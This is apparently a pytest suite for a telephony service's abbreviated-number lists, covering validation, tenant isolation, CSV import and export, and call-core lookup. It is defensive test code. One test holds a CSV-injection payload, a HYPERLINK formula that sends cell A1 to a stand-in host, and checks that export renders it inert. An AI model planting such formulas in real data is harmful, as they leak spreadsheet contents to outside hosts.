"""Abbreviated numbers: each list's rules, the CSV import (good rows saved, bad ones reported, nothing half-done)
and export, tenancy, and the call core's lookup, line then group, in one indexed query."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest
from sqlalchemy import exc, false, insert, select

from tests.api.customers import Customer, open_account
from tonalite.app import Platform
from tonalite.services import abbreviated_numbers
from tonalite.services.abbreviated_numbers import (
    MAX_IMPORT_BYTES,
    MAX_IMPORT_ROWS,
    THREE_DIGIT_ADVICE,
    AbbreviatedEntry,
    AbbreviatedList,
    AbbreviatedNumberService,
    advice,
)
from tonalite.services.errors import Conflict, InputTooLarge, InvalidInput, NotFound, UnsupportedFormat
from tonalite.store.models import AbbreviatedNumber, Language

LINE = "+33999001234"
OTHER_LINE = "+33999001235"
BOB_LINE = "+33999002222"


@pytest.fixture
def alice(platform: Platform) -> Customer:
    return open_account(platform, "alice", LINE)


@pytest.fixture
def service(platform: Platform) -> AbbreviatedNumberService:
    return platform.services.abbreviated_numbers


def _rows(service: AbbreviatedNumberService, customer: Customer, where: AbbreviatedList) -> list[tuple[str, ...]]:
    return [
        (row.short_number, row.destination_number, row.surname, row.name)
        for row in service.list(customer.principal, where)
    ]


@pytest.mark.parametrize(
    ("entry", "line", "stored"),
    [
        (
            AbbreviatedEntry("7001", "01 99 00 10 02", " Dupont ", "Jean"),
            None,
            ("7001", "+33199001002", "Dupont", "Jean"),
        ),
        (AbbreviatedEntry("701", "0033123456789"), None, ("701", "+33123456789", "", "")),
        (AbbreviatedEntry(" 7999 ", "+44 20 7946 0958"), None, ("7999", "+442079460958", "", "")),
        (AbbreviatedEntry("2001", "0612345678", "Martin"), LINE, ("2001", "+33612345678", "Martin", "")),
        (AbbreviatedEntry("299", "33199001002"), LINE, ("299", "+33199001002", "", "")),
    ],
)
def test_a_valid_number_is_stored_normalised(
    service: AbbreviatedNumberService,
    alice: Customer,
    entry: AbbreviatedEntry,
    line: str | None,
    stored: tuple[str, ...],
) -> None:
    where = AbbreviatedList(alice.group, line)
    service.add(alice.principal, where, entry)
    assert _rows(service, alice, where) == [stored]


@pytest.mark.parametrize(
    ("entry", "line", "field", "french"),
    [
        (
            AbbreviatedEntry("2001", "0199001002"),
            None,
            "abbreviated_number",
            "Un numéro abrégé de cette liste fait 3 ou 4 chiffres et commence par 7.",
        ),
        (
            AbbreviatedEntry("7001", "0199001002"),
            LINE,
            "abbreviated_number",
            "Un numéro abrégé de cette liste fait 3 ou 4 chiffres et commence par 2.",
        ),
        (AbbreviatedEntry("70", "0199001002"), None, "abbreviated_number", None),
        (AbbreviatedEntry("70012", "0199001002"), None, "abbreviated_number", None),
        (AbbreviatedEntry("7a01", "0199001002"), None, "abbreviated_number", None),
        (
            AbbreviatedEntry("\uff17\uff10\uff10\uff11", "0199001002"),
            None,
            "abbreviated_number",
            None,
        ),  # full-width digits
        (AbbreviatedEntry("7001", " "), None, "destination_number", "Indiquez le numéro de destination."),
        (
            AbbreviatedEntry("7001", "12"),
            None,
            "destination_number",
            "« 12 » n'est pas un numéro de téléphone valide.",
        ),
        (AbbreviatedEntry("7001", "0199001002", "x" * 101), None, "surname", "Ce texte dépasse 100 caractères."),
        (AbbreviatedEntry("7001", "0199001002", "", "Jean\nDupont"), None, "name", "Valeur invalide."),
    ],
)
def test_an_invalid_number_is_refused_with_its_field_and_nothing_is_stored(
    service: AbbreviatedNumberService,
    alice: Customer,
    entry: AbbreviatedEntry,
    line: str | None,
    field: str,
    french: str | None,
) -> None:
    where = AbbreviatedList(alice.group, line)
    with pytest.raises(InvalidInput) as refusal:
        service.add(alice.principal, where, entry)
    assert refusal.value.field == field
    if french is not None:
        assert refusal.value.message(Language.FR) == french
    assert service.list(alice.principal, where) == []


def test_a_short_number_is_unique_in_its_list_only(service: AbbreviatedNumberService, alice: Customer) -> None:
    group = AbbreviatedList(alice.group)
    service.add(alice.principal, group, AbbreviatedEntry("7001", "0199001002"))
    with pytest.raises(Conflict) as taken:
        service.add(alice.principal, group, AbbreviatedEntry("7001", "0199001003"))
    assert taken.value.message(Language.EN) == "The abbreviated number 7001 is already in this list."
    service.add(alice.principal, group, AbbreviatedEntry("700", "0199001003"))  # another number, not a clash
    assert _rows(service, alice, group) == [("700", "+33199001003", "", ""), ("7001", "+33199001002", "", "")]


def test_the_database_holds_a_group_list_unique_too(platform: Platform, alice: Customer) -> None:
    """No two NULL line ids are equal in SQL: the partial index of migration 0002 holds the group's list."""
    row = {"billing_group_id": alice.group, "line_id": None, "short_number": "7001", "destination_number": "+3319"}
    with platform.db.session() as session:
        session.execute(insert(AbbreviatedNumber).values(surname="", name="", **row))
    with pytest.raises(exc.IntegrityError), platform.db.session() as session:
        session.execute(insert(AbbreviatedNumber).values(surname="", name="", **row))


def test_lists_are_kept_apart_and_edited_deleted_and_cleared(
    platform: Platform, service: AbbreviatedNumberService, alice: Customer
) -> None:
    platform.services.lines.create(alice.group, OTHER_LINE)
    group, line, other = (AbbreviatedList(alice.group, number) for number in (None, LINE, OTHER_LINE))
    service.add(alice.principal, group, AbbreviatedEntry("7001", "0199001001"))
    service.add(alice.principal, line, AbbreviatedEntry("2001", "0199001002"))
    service.add(alice.principal, line, AbbreviatedEntry("2002", "0199001003"))
    service.add(alice.principal, other, AbbreviatedEntry("2001", "0199001004"))

    updated = service.update(alice.principal, line, AbbreviatedEntry("2001", "0612345678", "Martin", "Paul"))
    assert (updated.destination_number, updated.surname, updated.name) == ("+33612345678", "Martin", "Paul")
    with pytest.raises(NotFound):
        service.update(alice.principal, group, AbbreviatedEntry("2001", "0612345678"))
    with pytest.raises(InvalidInput):
        service.update(alice.principal, line, AbbreviatedEntry("2001", "not a number"))
    assert service.get(alice.principal, line, "2001").destination_number == "+33612345678"

    service.delete(alice.principal, line, "2002")
    with pytest.raises(NotFound):
        service.delete(alice.principal, line, "2002")
    assert service.clear(alice.principal, line) == 1
    assert service.list(alice.principal, line) == []
    assert _rows(service, alice, other) == [("2001", "+33199001004", "", "")]
    assert _rows(service, alice, group) == [("7001", "+33199001001", "", "")]
    assert service.clear(alice.principal, group) == 1
    assert _rows(service, alice, other) == [("2001", "+33199001004", "", "")]


def test_another_account_sees_and_changes_nothing(
    platform: Platform, service: AbbreviatedNumberService, alice: Customer
) -> None:
    bob = open_account(platform, "bob", BOB_LINE)
    group, line = AbbreviatedList(alice.group), AbbreviatedList(alice.group, LINE)
    service.add(alice.principal, group, AbbreviatedEntry("7001", "0199001001"))
    service.add(alice.principal, line, AbbreviatedEntry("2001", "0199001002"))
    entry = AbbreviatedEntry("7001", "0199009999")
    attempts: list[Callable[[AbbreviatedList], object]] = [
        lambda where: service.list(bob.principal, where),
        lambda where: service.get(bob.principal, where, "7001"),
        lambda where: service.add(bob.principal, where, entry),
        lambda where: service.update(bob.principal, where, entry),
        lambda where: service.delete(bob.principal, where, "7001"),
        lambda where: service.clear(bob.principal, where),
        lambda where: service.import_csv(bob.principal, where, b"7002,0199001003\n"),
        lambda where: service.export_csv(bob.principal, where),
    ]
    # Alice's group, her line in Bob's group, and her line in her group: each is another account's.
    for where in (group, AbbreviatedList(bob.group, LINE), line):
        for attempt in attempts:
            with pytest.raises(NotFound):
                attempt(where)
    assert _rows(service, alice, group) == [("7001", "+33199001001", "", "")]
    assert _rows(service, alice, line) == [("2001", "+33199001002", "", "")]


def test_an_import_saves_the_good_rows_and_reports_the_bad_ones(
    service: AbbreviatedNumberService, alice: Customer
) -> None:
    group = AbbreviatedList(alice.group)
    service.add(alice.principal, group, AbbreviatedEntry("7001", "0199001001", "Ancien"))
    service.add(alice.principal, group, AbbreviatedEntry("7005", "0199001005"))
    data = (
        "7001,0033199001011,Dupont,Jean\r\n"  # already stored: updated
        "7002,01 99 00 10 02,Martin\r\n"
        "\r\n"  # blank: skipped, still counted as a line
        "2003,0199001003,Wrong,List\r\n"
        "7004,not a number,Bad,Destination\r\n"
        "7002,0199001099,Repeated,Row\r\n"
        "7006\r\n"
        '7007,0199001007,"Durand, fils",Éric\r\n'
        "7005,+33199001005\r\n"  # as stored: unchanged
    ).encode()
    report = service.import_csv(alice.principal, group, data)
    assert (report.added, report.updated, report.unchanged) == (2, 1, 1)
    reasons = [(row.line, row.error.field, row.error.message(Language.FR)) for row in report.rejected]
    assert reasons == [
        (4, "abbreviated_number", "Un numéro abrégé de cette liste fait 3 ou 4 chiffres et commence par 7."),
        (5, "destination_number", "« not a number » n'est pas un numéro de téléphone valide."),
        (6, "abbreviated_number", "Le numéro abrégé 7002 figure déjà à la ligne 2 du fichier."),
        (
            7,
            None,
            "Une ligne compte de 2 à 4 champs : numéro abrégé, numéro de destination, nom, prénom.",
        ),
    ]
    assert _rows(service, alice, group) == [
        ("7001", "+33199001011", "Dupont", "Jean"),
        ("7002", "+33199001002", "Martin", ""),
        ("7005", "+33199001005", "", ""),
        ("7007", "+33199001007", "Durand, fils", "Éric"),
    ]


def test_an_export_imports_back_to_the_same_list(
    platform: Platform, service: AbbreviatedNumberService, alice: Customer
) -> None:
    line = AbbreviatedList(alice.group, LINE)
    data = '2001,0033123456789,Smith,John\n201,+44 20 7946 0958,"O\'Neil, Jr",Ève\n2100,0612345678,,\n'.encode()
    assert service.import_csv(alice.principal, line, data).added == 3
    exported = service.export_csv(alice.principal, line)
    assert exported == (
        '2001,0033123456789,Smith,John\r\n201,00442079460958,"O\'Neil, Jr",Ève\r\n2100,0033612345678,,\r\n'
    )
    bob = open_account(platform, "bob", BOB_LINE)
    bob_line = AbbreviatedList(bob.group, BOB_LINE)
    assert service.import_csv(bob.principal, bob_line, exported.encode()).added == 3
    assert service.export_csv(bob.principal, bob_line) == exported
    again = service.import_csv(alice.principal, line, exported.encode())
    assert (again.added, again.updated, again.unchanged, again.rejected) == (0, 0, 3, ())


def test_a_name_a_spreadsheet_would_run_as_a_formula_is_exported_inert_and_imported_back(
    service: AbbreviatedNumberService, alice: Customer
) -> None:
    group = AbbreviatedList(alice.group)
    formula = '=HYPERLINK("http://example.com/?leak="&A1;"Dupont")'
    data = f'7001,0199001001,"{formula.replace(chr(34), chr(34) * 2)}",@SUM(1)\n7002,0199001002,-Martin,Jean-Paul\n'
    assert service.import_csv(alice.principal, group, data.encode()).added == 2
    exported = service.export_csv(alice.principal, group)
    rows = list(csv.reader(io.StringIO(exported)))
    assert [row[2:] for row in rows] == [["'" + formula, "'@SUM(1)"], ["'-Martin", "Jean-Paul"]]
    again = service.import_csv(alice.principal, group, exported.encode())
    assert (again.added, again.updated, again.unchanged) == (0, 0, 2)
    assert _rows(service, alice, group)[0][2:] == (formula, "@SUM(1)")


@pytest.mark.parametrize(
    "data",
    [
        "\ufeff7001;0199001002;Dupont;Jean\n".encode(),  # UTF-8 with a byte-order mark, semicolons
        "7001;0199001002;Dupont;Jean\r\n".encode("cp1252"),
        b'"7001";"0199001002";"Dupont";"Jean"\n',
    ],
    ids=["utf-8-bom", "windows-1252", "quoted"],
)
def test_a_spreadsheets_csv_is_read(service: AbbreviatedNumberService, alice: Customer, data: bytes) -> None:
    group = AbbreviatedList(alice.group)
    assert service.import_csv(alice.principal, group, data).added == 1
    assert _rows(service, alice, group) == [("7001", "+33199001002", "Dupont", "Jean")]


@pytest.mark.parametrize(
    ("data", "refusal", "english"),
    [
        (b"", InvalidInput, "The file holds no abbreviated number."),
        (b"\r\n \r\n", InvalidInput, "The file holds no abbreviated number."),
        (b"7001,0199001002\x00\x01", UnsupportedFormat, None),
        ("7001,0199001002\n".encode("utf-16"), UnsupportedFormat, None),
        (b"\x81\x8d", UnsupportedFormat, None),  # neither UTF-8 nor Windows-1252
        (b"7001," + b"1" * (MAX_IMPORT_BYTES - 4), InputTooLarge, "The file is over 256 KB."),
        (b"7001,0199001002\n" * (MAX_IMPORT_ROWS + 1), InputTooLarge, "The file has more than 2000 lines."),
        (
            b'7001,0199001002\n7002,"' + b"x" * 140_000,
            InvalidInput,
            "The CSV file cannot be read from line 2 on (a field too long, or a quote never closed).",
        ),
    ],
    ids=["empty", "blank", "binary", "utf-16", "undecodable", "too-large", "too-many-rows", "unclosed-quote"],
)
def test_a_file_that_cannot_be_imported_changes_nothing(
    service: AbbreviatedNumberService,
    alice: Customer,
    data: bytes,
    refusal: type[InvalidInput],
    english: str | None,
) -> None:
    group = AbbreviatedList(alice.group)
    service.add(alice.principal, group, AbbreviatedEntry("7001", "0199001001"))
    with pytest.raises(refusal) as refused:
        service.import_csv(alice.principal, group, data)
    assert refused.value.field == "file"
    if english is not None:
        assert refused.value.message(Language.EN) == english
    assert _rows(service, alice, group) == [("7001", "+33199001001", "", "")]


def test_three_digits_get_the_advice_four_do_not() -> None:
    assert advice("701") == THREE_DIGIT_ADVICE
    assert advice("7001") is None


def test_the_call_core_finds_the_lines_number_then_the_groups(
    platform: Platform, service: AbbreviatedNumberService, alice: Customer
) -> None:
    first = platform.services.lines.get(alice.principal, alice.group, LINE)
    second, _ = platform.services.lines.create(alice.group, OTHER_LINE)
    bob = open_account(platform, "bob", BOB_LINE)
    group, line = AbbreviatedList(alice.group), AbbreviatedList(alice.group, LINE)
    service.add(alice.principal, group, AbbreviatedEntry("7001", "0199001001"))
    service.add(alice.principal, group, AbbreviatedEntry("701", "0199001701"))
    service.add(alice.principal, line, AbbreviatedEntry("2001", "0199001002"))
    service.add(bob.principal, AbbreviatedList(bob.group), AbbreviatedEntry("7002", "0199002002"))

    assert service.resolve(first.id, alice.group, "2001") == "+33199001002"
    assert service.resolve(first.id, alice.group, "7001") == "+33199001001"
    assert service.resolve(first.id, alice.group, "701") == "+33199001701"
    assert service.resolve(second.id, alice.group, "7001") == "+33199001001"  # the group's, from any line
    assert service.resolve(second.id, alice.group, "2001") is None  # another line's
    assert service.resolve(first.id, alice.group, "7002") is None  # another group's
    for dialled in ("700", "70011", "0199001001", "*21#", "", "7OO1", "\u0667\u0660\u0660\u0661"):
        assert service.resolve(first.id, alice.group, dialled) is None


def test_the_call_core_prefers_the_lines_own_number(platform: Platform, alice: Customer) -> None:
    """The lists' first digits keep them apart, but a row the services would refuse still resolves line first."""
    line = platform.services.lines.get(alice.principal, alice.group, LINE)
    with platform.db.session() as session:
        for line_id, destination in ((None, "+33199001001"), (line.id, "+33199001002")):
            session.add(
                AbbreviatedNumber(
                    billing_group_id=alice.group, line_id=line_id, short_number="7777", destination_number=destination
                )
            )
    assert platform.services.abbreviated_numbers.resolve(line.id, alice.group, "7777") == "+33199001002"


def test_the_lookup_probes_indexes_only(platform: Platform) -> None:
    if platform.db.engine.dialect.name != "sqlite":
        pytest.skip("PostgreSQL plans a sequential scan on a table this small")
    statement = platform.services.abbreviated_numbers._resolve
    with platform.db.engine.connect() as connection:
        plan = [row[3] for row in connection.exec_driver_sql("EXPLAIN QUERY PLAN " + statement.sql, (1, "7001", 1))]
    searches = [step for step in plan if step.startswith(("SEARCH", "SCAN"))]
    assert len(searches) == 2, plan
    assert all(step.startswith("SEARCH abbreviated_numbers USING INDEX") for step in searches), plan


def test_two_adds_of_one_number_at_once_leave_one_and_a_conflict(
    monkeypatch: pytest.MonkeyPatch, service: AbbreviatedNumberService, alice: Customer
) -> None:
    """The second add passed its check before the first was written: the unique index refuses it, 409 (not
    500); an import crossing an add the same way saves nothing and says so."""
    group = AbbreviatedList(alice.group)
    service.add(alice.principal, group, AbbreviatedEntry("7001", "0199001001", "Dupont", "Jean"))
    monkeypatch.setattr(abbreviated_numbers, "_in_list_of", lambda *_: None)
    with pytest.raises(Conflict) as taken:
        service.add(alice.principal, group, AbbreviatedEntry("7001", "0199001002", "Martin", ""))
    assert taken.value.message_id == "error.abbreviated.short_number_taken"
    monkeypatch.setattr(abbreviated_numbers, "_in_list", lambda *_: select(AbbreviatedNumber).where(false()))
    with pytest.raises(Conflict) as changed:
        service.import_csv(alice.principal, group, b"7002,0199001002\n7001,0199001003\n")
    assert changed.value.message_id == "error.abbreviated.import_conflict"
    monkeypatch.undo()
    assert _rows(service, alice, group) == [("7001", "+33199001001", "Dupont", "Jean")]
